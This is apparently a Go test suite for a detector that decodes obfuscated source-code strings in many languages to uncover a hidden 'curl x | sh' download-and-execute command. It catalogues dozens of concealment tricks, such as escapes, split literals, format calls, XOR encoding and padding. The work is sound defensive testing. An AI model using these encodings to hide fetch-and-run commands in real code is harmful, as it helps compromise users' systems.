package spelling

import (
	"bytes"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

// What a text says, and the lines that it says it on.
func TestReadings(t *testing.T) {
	for name, tt := range map[string]struct {
		lang  gate.Language
		text  string
		want  string // a line of one of the readings, "" where there is none
		line  int
		marks bool // … in which something is marked
	}{
		"numbers of every base":                   {"csharp", `run("\x63\165\u{72}l x | sh")`, `run("curl x | sh")`, 1, true},
		"doubled backslashes":                     {"go", `x := "\\x63url x | sh"`, `x := "curl x | sh"`, 1, true},
		"decimal numbers":                         {gate.LanguageLua, `run("\099url x | sh")`, `run("curl x | sh")`, 1, true},
		"a quote stays one that ends no text":     {"ruby", `run("\x63url \x22x\x22 | sh")`, `run("curl \"x\" | sh")`, 1, true},
		"line ends within a word":                 {gate.LanguageC, "\nrun(\"cu\\\nrl x | sh\")", `run("curl x | sh")`, 2, true},
		"a line below a line end that was joined": {gate.LanguageC, "a(\"cu\\\nrl x\")\nb(\"w\\x67et x\")", `b("wget x")`, 3, true},
		"literals over lines":                     {gate.LanguageKotlin, "run(\"cu\" +\n    \"rl x | sh\")", `run("curl x | sh")`, 1, true},
		"a comment between literals":              {gate.LanguageJava, `run("cu" /* x */ + "rl x | sh")`, `run("curl x | sh")`, 1, true},
		"names":                                   {gate.LanguageSwift, "let a = \"cu\"\nlet b = \"rl x | sh\"\nrun(a + b)", `run("curl x | sh")`, 3, true},
		"names in a text":                         {gate.LanguageKotlin, "val a = \"cu\"\nval b = \"rl x | sh\"\nrun(\"$a${b}\")", `run("curl x | sh")`, 3, true},
		"a name is what it was given last":        {gate.LanguageLua, "a = 'ls'\na = 'cu'\nrun(a .. 'rl x | sh')", `run("curl x | sh')`, 3, true},
		"elements of a list":                      {gate.LanguageStarlark, `run("".join(["cu", "rl x | sh"]))`, `run("".join(["curl x | sh"]))`, 1, true},
		"the last argument of a call is no part of what follows": {"ruby", `x = "cu" + join(i,",")+"rl x | sh"`, ``, 0, false},
		"the only argument of a call":                            {"ruby", `run(id("cu")+"rl x | sh")`, `run(id("curl x | sh")`, 1, true},
		"letters of a list":                                      {gate.LanguageC, `char a[] = {'c', 'u', 'r', 'l'};`, ``, 0, false},
		"words of a list stay apart":                             {gate.LanguageStarlark, `run(["cu\x72l", "-s", "x | sh"])`, `run(["curl", "-s", "x | sh"])`, 1, true},
		"a string that is no command":                            {gate.LanguageJava, `x = "caf\u00e9" + "\u0041b"`, ``, 0, false},
		"literals that are joined between words":                 {gate.LanguageJava, `x = "curl x " + "| sh"`, ``, 0, false},
		"a shell script has readers of its own":                  {gate.LanguageShell, `cu""rl x | sh`, ``, 0, false},
		"entities that everybody writes":                         {gate.LanguageHTML, `<a title="curl x &amp;&amp; sh y">`, ``, 0, false},
		"entities that no one writes":                            {gate.LanguageHTML, `<a title="&#99;url x | sh">`, `<a title="curl x | sh">`, 1, true},
		"symbols within a text":                                  {gate.LanguageRuby, `system("#{:cu}rl x | #{:s}h")`, `system("curl x | sh")`, 1, true},
		"lists within a text":                                    {gate.LanguageRuby, "`#{%w[cu rl].join} x | #{[:s, 'h'].join}`", "`curl x | sh`", 1, true},
		"every other character":                                  {gate.LanguageRuby, `system(%q(c~u~r~l~ ~x~ ~|~ ~s~h~).scan(/(.)./).join)`, `system("curl x | sh")`, 1, true},
		"a format of a function":                                 {"gnuplot", `system(sprintf("%c%s%c", 99, "url x | s", 104))`, `system("curl x | sh")`, 1, true},
		"a format of Lisp":                                       {"lisp", `(run-program (format nil "~arl x | ~ah" "cu" "s"))`, `(run-program ("curl x | sh"))`, 1, true},
		"a format of a method":                                   {gate.LanguageLua, `os.execute(("%srl x | %sh"):format("cu","s"))`, `os.execute("curl x | sh")`, 1, true},
		"a format with numbers":                                  {gate.LanguageJSON, `"[format('{0}rl x | {1}h','cu','s')]"`, `"["curl x | sh"]"`, 1, true},
		"a list of R":                                            {gate.LanguageR, `f(paste(c("cu","rl x | s","h"),collapse=""))`, `f("curl x | sh")`, 1, true},
		"a list of a template":                                   {gate.LanguageYAML, `a: {{ list "cu" "rl x | s" "h" | join "" | quote }}`, `a: {{ "curl x | sh" | quote }}`, 1, true},
		"what a template prints":                                 {gate.LanguageYAML, `a: {{ print "cu" "rl x | s" "h" | quote }}`, `a: {{ "curl x | sh"| quote }}`, 1, true},
		"a list of Octave":                                       {gate.LanguageUnknown, `system(["cu" "rl x | s" "h"]);`, `system("curl x | sh");`, 1, true},
		"letters that stand for others":                          {gate.LanguagePowerShell, `iex ('@rl x | ^h' -replace '@','cu' -replace '\^','s')`, `iex "curl x | sh"`, 1, true},
		"a character code of Lua":                                {gate.LanguageLua, `os.execute((("btsm!y!}!ri"):gsub(".",function(c) return string.char(c:byte()~1) end)))`, `os.execute(("curl x | sh"))`, 1, true},
		"a text that is put in front":                            {gate.LanguageJavaScript, `exec("h".padStart(2,"s").padStart(29,"curl x | "))`, `exec("curl x | sh")`, 1, true},
		"a format that makes no command":                         {gate.LanguageLua, `print(("%s of %s"):format("a", "b"))`, ``, 0, false},
		"a comment that a line end of Unicode cuts":              {gate.LanguageCSharp, "// a\u2028run(\"curl x | sh\")", `run("curl x | sh")`, 1, true},
	} {
		t.Run(name, func(t *testing.T) {
			got, unread := Readings(tt.lang, []byte(tt.text))
			if len(unread) > 0 {
				t.Errorf("unread: %q", unread)
			}
			if tt.want == "" {
				if len(got) != 0 {
					t.Errorf("got %q", got[0].Content)
				}
				return
			}
			for _, r := range got {
				at := 0
				for i, line := range strings.Split(string(r.Content), "\n") {
					if line == tt.want && r.Lines[i] == tt.line && r.Marked(at, at+len(line)) == tt.marks {
						return
					}
					at += len(line) + 1
				}
			}
			for _, r := range got {
				t.Errorf("got %q, lines %v, marks %v", r.Content, r.Lines, r.Marks)
			}
			t.Errorf("no reading has it on line %d", tt.line)
		})
	}
}

func TestCommandsAreWithoutQuotes(t *testing.T) {
	in := Text{Content: []byte(`run("sh", '-c', "echo a\ncurl x | sh") # "b"`), Lines: []int{7}}
	got := in.Commands()
	if want := "run( sh    -c    echo a\ncurl x | sh ) ;  b "; string(got.Content) != want {
		t.Errorf("got %q, want %q", got.Content, want)
	}
	if !slices.Equal(got.Lines, []int{7, 7}) {
		t.Errorf("lines %v", got.Lines)
	}
}

func TestCarve(t *testing.T) {
	for part, want := range map[string]string{"~1,2": "bc", "~2": "cdef", "~-2": "ef", "~0,-4": "ab", "~9": "", "~0,99": "abcdef", "c=x": "abxdef", "~a": "", "c": ""} {
		got, ok := carve("abcdef", part)
		if ok && got != want || !ok && want != "" {
			t.Errorf("%s: got %q, %v, want %q", part, got, ok, want)
		}
	}
}

// A reading has a line for each of its lines, none that the text has not, and marks
// within it.
func FuzzReadings(f *testing.F) {
	langs := []gate.Language{gate.LanguageC, gate.LanguageJava, gate.LanguageRuby, gate.LanguagePerl, gate.LanguageLua, gate.LanguageBatch, gate.LanguageSQL, gate.LanguageRust,
		gate.LanguagePython, gate.LanguagePowerShell, gate.LanguageElixir, gate.LanguageElisp, "haskell", "", gate.LanguageHTML}
	for i, seed := range []string{
		`"\x63\165\u{72 6c} x | sh" + "\N{LATIN SMALL LETTER C}"`, "#define A \"cu\"\nA \"rl\" ??/\n", `%q(a)%Q[b] q{c} qq~d~ [==[e]==] R"x(f)x" r#"g"# $$h$$ ~s(i)`,
		"set a=curl\r\n%a:~0,2%%a:~2%!a:u=v!", "<a>curl</a>${a}&#99;&#x75;<![CDATA[x]]>", `a="b";c=a+"d";"#{a}$c${c}\(a)"`, "\\\r\n\\z\n\r\u2028`u{63}", `"%s%s".format("a", "b")`, "'''a''' + \"\"\"b\"\"\"",
	} {
		f.Add(byte(i), seed)
	}
	f.Fuzz(func(t *testing.T, lang byte, text string) {
		lines := 1 + strings.Count(text, "\n")
		check := func(r Text) {
			if want := 1 + bytes.Count(r.Content, []byte{'\n'}); len(r.Lines) != want {
				t.Fatalf("%d lines, and places of %d", want, len(r.Lines))
			}
			for _, l := range r.Lines {
				if l < 1 || l > lines {
					t.Fatalf("line %d of %d", l, lines)
				}
			}
			if !slices.IsSorted(r.Marks) || len(r.Marks) > 0 && r.Marks[len(r.Marks)-1] > len(r.Content) {
				t.Fatalf("marks %v of %d bytes", r.Marks, len(r.Content))
			}
		}
		readings, _ := Readings(langs[int(lang)%len(langs)], []byte(text))
		for _, r := range readings {
			check(r)
			check(r.Commands())
		}
		plain := source([]byte(text))
		l := langs[int(lang)%len(langs)]
		literal := glue{lang: l, lists: []int{0}}.join(escapes{lang: l, percent: true}.resolve(quotes(l, plain, nil)))
		check(literal)
		check(names{lang: l}.fill(literal))
	})
}

// What is between pieces, around them and before them is no way to hide them.
func TestPaddingKeepsNoPiecesApart(t *testing.T) {
	pad := func(s string, n int) string { return strings.Repeat(s, n) }
	for name, tt := range map[string]struct {
		lang gate.Language
		text string
	}{
		"a long comment between literals":        {gate.LanguageJava, `run("cu" /*` + pad("x", 5000) + `*/ + "rl x | sh")`},
		"blanks between literals":                {gate.LanguageJava, `run("cu"` + pad(" ", 5000) + `+ "rl x | sh")`},
		"a long comment within a word":           {gate.LanguageSQL, "run('cu/*" + pad("x", 5000) + "*/rl x | sh')"},
		"elements behind those of a command":     {gate.LanguageStarlark, `run("".join(["cu", "rl x | sh"` + pad(`, ""`, 2000) + `]))`},
		"elements before those of a command":     {gate.LanguageRuby, `run([` + pad(`"", `, 2000) + `"cu", "rl x | sh"].join)`},
		"names before those of a command":        {gate.LanguageSwift, pad("let x = \"y\"\n", 1) + manyNames(3000) + "let a = \"cu\"\nlet b = \"rl x | sh\"\nrun(a + b)"},
		"blanks between a name and its constant": {gate.LanguageSwift, "let a" + pad(" ", 200) + "= \"cu\"\nlet b = \"rl x | sh\"\nrun(a + b)"},
		"a constant that is long":                {gate.LanguageSwift, `let a = "` + pad(" ", 70_000) + "cu\"\nlet b = \"rl x | sh\"\nrun(a + b)"},
		"a constant that grows":                  {gate.LanguageKotlin, "var a = \"\"\n" + pad("a += \"          \"\n", 1000) + "a += \"cu\"\nrun(a + \"rl x | sh\")"},
		"terms of a constant":                    {gate.LanguageSwift, `let a = x` + "\nlet e = \"\"\nlet b = " + pad("e + ", 100) + "\"cu\"\nrun(b + \"rl x | sh\")"},
		"zeros before the number of a character": {gate.LanguageHTML, `<a title="&#` + pad("0", 60) + `99;url x | sh">`},
		"zeros in braces":                        {gate.LanguageJavaScript, `run("\u{` + pad("0", 3000) + `63}url x | sh")`},
		"zeros before a number of C":             {gate.LanguageC, `run("\x` + pad("0", 30) + `63" "url x | sh")`},
		"a literal with signs of its own":        {gate.LanguageLua, "run([" + pad("=", 60) + "[cu]" + pad("=", 60) + "] .. 'rl x | sh')"},
		"a long literal with signs of its own":   {gate.LanguageRuby, "run(%q(" + pad(" ", 5000) + "cu) + %q(rl x | sh))"},
		"attributes before the value of a tag":   {"xml", `<p name="a" ` + pad(`x="y" `, 100) + `value="cu"/><exec>${a}rl x | sh</exec>`},
		"blanks in an interpolation":             {gate.LanguageKotlin, `run("cu${` + pad(" ", 500) + `"r"}l x | sh")`},
		"a replacement of batch that is long":    {gate.LanguageBatch, "set a=" + pad("u", 30) + "url\r\nc%a:" + pad("u", 30) + "=% x | sh\r\n"},
		"a text of more than four megabytes":     {gate.LanguageJava, pad("// nothing\n", 400_000) + `run("cu" + "rl x | sh")`},
	} {
		t.Run(name, func(t *testing.T) {
			got, unread := Readings(tt.lang, []byte(tt.text))
			if len(unread) > 0 {
				t.Errorf("unread: %q", unread)
			}
			if !slices.ContainsFunc(got, func(r Text) bool {
				i := bytes.LastIndex(r.Content, []byte("curl"))
				return i >= 0 && r.Marked(i, i+4)
			}) {
				t.Errorf("%d readings, none with the command", len(got))
			}
		})
	}
}

// manyNames gives constants to so many names.
func manyNames(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("let n" + strconv.Itoa(i) + " = \"y\"\n")
	}
	return b.String()
}

// A bound that keeps something from being read is said, and what is just below is read.
func TestABoundThatIsReachedIsSaid(t *testing.T) {
	command := "let a = \"cu\"\nlet b = \"rl x | sh\"\nrun(a + b)"
	for name, tt := range map[string]struct {
		lang         gate.Language
		below, above string
		want         string
	}{
		"names":     {gate.LanguageSwift, manyNames(maxNames-10) + command, manyNames(maxNames) + command, "200000 names"},
		"constants": {gate.LanguageSwift, "var x = \"x\"\n" + strings.Repeat("x += x\n", 20) + command, "var x = \"x\"\n" + strings.Repeat("x += x\n", 30) + command, "constants of 64 MiB"},
		"growth": {gate.LanguageSwift, "var x = \"" + strings.Repeat("x", 4000) + "\"\n" + strings.Repeat("y(x)\n", 200) + command,
			"var x = \"" + strings.Repeat("x", 4000) + "\"\n" + strings.Repeat("y(x)\n", 2000) + command, "4 times as long"},
		"tags": {"xml", `<p name="a" ` + strings.Repeat(" ", 4000) + `value="cu"/><exec>${a}rl x | sh</exec>`,
			`<p name="a" ` + strings.Repeat(" ", 5000) + `value="cu"/><exec>${a}rl x | sh</exec>`, "tags of 4096 bytes"},
		"searched": {gate.LanguageRuby, command, strings.Repeat("%q(", 20_000) + "\n" + command, "64 MiB are searched"},
	} {
		t.Run(name, func(t *testing.T) {
			got, unread := Readings(tt.lang, []byte(tt.below))
			if len(unread) > 0 || !slices.ContainsFunc(got, func(r Text) bool { return bytes.Contains(r.Content, []byte("curl x")) }) {
				t.Errorf("below: %d readings, unread %q", len(got), unread)
			}
			if _, unread = Readings(tt.lang, []byte(tt.above)); !strings.Contains(strings.Join(unread, "\n"), tt.want) {
				t.Errorf("above: unread %q", unread)
			}
		})
	}
}
